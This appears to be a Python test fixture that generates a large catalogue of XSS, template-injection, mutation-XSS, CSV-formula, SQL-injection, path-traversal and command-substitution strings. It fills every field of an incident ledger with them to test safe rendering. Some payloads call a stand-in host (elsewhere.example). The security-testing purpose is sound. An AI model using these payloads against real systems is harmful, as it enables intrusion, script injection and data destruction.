"""Some six hundred strings that would run, load or lead elsewhere if a page took them for markup, made by category; and a ledger
whose every displayed field bears them."""

from __future__ import annotations

import datetime as dt
from collections.abc import Sequence
from itertools import product
from pathlib import Path
from typing import Any
from urllib.parse import quote

from holdings import RULES, holding
from msgspec.structs import replace

from istor.claims.claim import Actor, Damage, Mention, Person, Target, Weapon
from istor.geography.place import Candidate, PlaceReading
from istor.incidents.incident import Sighting
from istor.provenance import Refusal
from istor.runs.following import follow
from istor.store.holding import Holding, Run
from istor.store.ledger import Ledger, open_ledger

CALLS = ("alert(1)", "confirm`1`", "fetch('//elsewhere.example')")
EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationend",
    "onpointerenter",
    "onwheel",
    "oncopy",
    "onbeforetoggle",
)
TAGS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "iframe",
    "math",
    "marquee",
    "a href=#",
    "style",
    "object data=x",
)
BREAKS = (
    "",
    "'",
    '"',
    "`",
    "'>",
    '">',
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "]]>",
    "*/",
    "</q></td>",
    "\\'",
    '\\"',
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "javascript&colon;",
    "&#106;avascript:",
    "blob:",
    "//elsewhere.example/",
    "https://elsewhere.example/?",
)
LOADS = (
    "img src",
    "iframe src",
    "link rel=stylesheet href",
    "script src",
    "object data",
    "embed src",
    "video poster",
    "base href",
    "form action",
    "a ping",
    "source srcset",
    "use href",
    "meta http-equiv=refresh content",
    "input type=image src",
)
BIDI = tuple(
    chr(code) for code in (0x202A, 0x202B, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E, 0x200F, 0x061C)
)
CONTROLS = tuple(chr(code) for code in (0x00, 0x08, 0x0B, 0x0C, 0x1B, 0x7F, 0x85, 0x2028, 0x2029, 0xFEFF, 0xFFF9))
TEMPLATES = (
    "{{%s}}",
    "{%% %s %%}",
    "${%s}",
    "#{%s}",
    "<%%= %s %%>",
    "{{= %s }}",
    "[[%s]]",
    "{{constructor.constructor('%s')()}}",
    "{{''.__class__.__mro__}}%s",
    "%%{%s}",
)
HTMX = (
    "hx-get",
    "hx-post",
    "hx-on:load",
    "hx-on::before-request",
    "hx-vals='js:{a:%s}' hx-get",
    "data-hx-get",
    "hx-disinherit hx-trigger",
)
MUTATING = (
    "<noscript><p title='</noscript><img src=x onerror=%s>'>", "<math><mtext><table><mglyph><style><img src=x onerror=%s>",
    "<svg></p><style><a id='</style><img src=x onerror=%s>'>", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=%s src>'>",
    "<select><template><img src=x onerror=%s></template></select>", "<xmp><p title='</xmp><img src=x onerror=%s>'>", "<title><a title='</title><img src onerror=%s>'>",
    "<svg><![CDATA[><image xlink:href=x onerror=%s>]]></svg>", "<!--><img src=x onerror=%s>-->", "<!--!><svg onload=%s>", "<table><td><svg><desc><td><img src onerror=%s>",
    "<svg><foreignObject><body onload=%s>", "<svg><animate attributeName=href values=javascript:%s>", "<svg><set attributeName=onmouseover to=%s>", "<svg><script>%s</script>",
    "<svg><script href='data:,%s'/>", "<math href='javascript:%s'>x</math>", "<plaintext><img src onerror=%s>", "<a href=x id=body name=forms onclick=%s>", "<form id=desk><input name=say onfocus=%s>",
)  # fmt: skip


def _encoded(call: str) -> list[str]:
    markup = f"<script>{call}</script>"
    return [
        quote(markup), quote(quote(markup)), "".join(f"&#{ord(each)};" for each in markup), "".join(f"&#x{ord(each):x}" for each in markup),
        "".join(f"\\u{ord(each):04x}" for each in markup), "".join(f"\\x{ord(each):02x}" for each in markup), markup.replace("<", "\uff1c").replace(">", "\uff1e"),
        markup.replace("<", "\u2039"), markup.replace("<", "%3c"), markup.replace("script", "scr\x00ipt"), markup.replace("script", "scr<script>ipt"), markup.upper(),
        markup.replace("<script>", "<script/x>"), markup.replace("<script>", "<script\n>"), markup.replace(">", ""), f"+ADw-script+AD4-{call}+ADw-/script+AD4-",
    ]  # fmt: skip


def payloads() -> tuple[str, ...]:
    """All of them, each once, always in the same order."""
    made = [f"{cut}<{tag} {event}={CALLS[0]}>" for tag, event, cut in product(TAGS, EVENTS, ("", '">'))]
    made += [f"{cut}<script>{call}</script>" for cut, call in product(BREAKS, CALLS)]
    made += [f"{cut} {event}={CALLS[0]} x={cut}" for cut, event in product(BREAKS[1:4], EVENTS)]
    made += [f"{scheme}{call}" for scheme, call in product(SCHEMES, CALLS)]
    made += [
        f"<{load}='{scheme}{CALLS[0]}'>" for load, scheme in product(LOADS, SCHEMES[:1] + SCHEMES[6:7] + SCHEMES[-2:])
    ]
    made += [each for call in CALLS for each in _encoded(call)]
    made += [f"ab{mark}<b>cd{mark}" for mark in (*BIDI, *CONTROLS)]
    made += [form % call for form, call in product(TEMPLATES, ("7*7", *CALLS))]
    made += [f"<div {name}='/leave' hx-trigger=load>" for name in HTMX]
    made += [
        f"{cut}<style>{rule}</style>"
        for cut in ("", "</style>")
        for rule in ("@import'//elsewhere.example';", "*{background:url(//elsewhere.example)}")
    ]
    made += [form % call for form, call in product(MUTATING, CALLS)]
    made += [f"{sign}cmd|' /C calc'!A0" for sign in "=+-@"] + [
        "' OR '1'='1",
        "'; DROP TABLE incidents; --",
        "../../etc/passwd",
        "$(id)",
        "`id`",
        "\r\nSet-Cookie: a=b",
    ]
    return tuple(dict.fromkeys(made))


PAYLOADS = payloads()
SHARE = 16  # strings in one field, unless said otherwise


def harmless(number: int) -> tuple[str, ...]:
    """As many words that are nothing but words."""
    return tuple(f"word{each}" for each in range(number))


def ledger_of(folder: Path, words: Sequence[str], *, share: int = SHARE) -> Ledger:
    """A ledger in which titles, publishers, addresses, texts, speakers, places, names, reasons, users and comments are these
    words, so many in each field."""
    opened = open_ledger(folder / "hostile.db", create=True)
    run = opened.begin(Run(verb="build", started=dt.datetime.now(dt.UTC)), RULES)
    shares = [tuple(words[at : at + share]) for at in range(0, len(words), share)]
    opened.keep([_holding(at, each) for at, each in enumerate(shares)], [], rules_id=RULES.id, run=run)
    follow(opened)
    on = [each.name(row) for each in (opened.panorama(),) for row in range(len(each))]
    for at, each in enumerate(shares):
        opened.decide("comment", on[at % len(on)], by=each[0] or "x", why=" ".join(each))
        opened.decide("correct", on[at % len(on)], path="killed", value=7, by=each[-1] or "x", why=" ".join(each))
    return opened


def _holding(at: int, share: Sequence[str]) -> Holding:
    joined = " ".join(each.replace("\r", " ").replace("\n", " ") for each in share)
    text = f"A drone hit a depot in Kharkiv on Tuesday. Three people were killed, the prosecutor said. {joined}"
    made = holding(f"{share[0]}{at}", text, url=f"https://p{at}.example/{joined}", publisher=joined)
    reading = made.reading
    told = tuple(_sighting(each, joined) for each in reading.sightings)
    refusal = Refusal(of=reading.article.id, room="claims", because=joined, span=told[0].tolls[0].span, detail=joined)
    article = replace(reading.article, title=joined)
    return replace(made, reading=replace(reading, article=article, sightings=told, refusals=(refusal,)))


def _sighting(each: Sighting, words: str) -> Sighting:
    span = each.tolls[0].span
    return replace(
        each,
        tolls=tuple(
            replace(toll, words=words, as_of=words, claimed_status=words, attribution=_said(toll.attribution, words))
            for toll in each.tolls
        ),
        voices=tuple(_said(voice, words) for voice in each.voices),
        place=_place(each.place, words) if each.place else None,
        date=replace(each.date, words=words, edtf=words) if each.date else None,
        actors=(Actor(words=words, span=span, stance="stated", key=words),),
        weapons=(Weapon(words=words, span=span, kind=words),),
        targets=(Target(words=words, span=span, kind="residential"),),
        damage=(Damage(words=words, span=span, what=words, low=1, high=1),),
        persons=(Person(words=words, span=span, harm="killed", role=words),),
    )


def _place(read: PlaceReading, words: str) -> PlaceReading:
    """As read, but for every name in it."""
    assert read.place is not None
    place = replace(read.place, name=words, admin1=words)
    other = replace(place, name=f"{words} too")
    held = (Candidate(place=place, score=0.6, because=words), Candidate(place=other, score=0.4, because=words))
    return replace(read, words=words, within=words, place=place, candidates=held)


def _said(told: Any, words: str) -> Any:
    speaker = replace(told.speaker, words=words, name=words, title=words, party=words)
    return replace(told, speaker=speaker, relay=(Mention(words=words, span=speaker.span),))
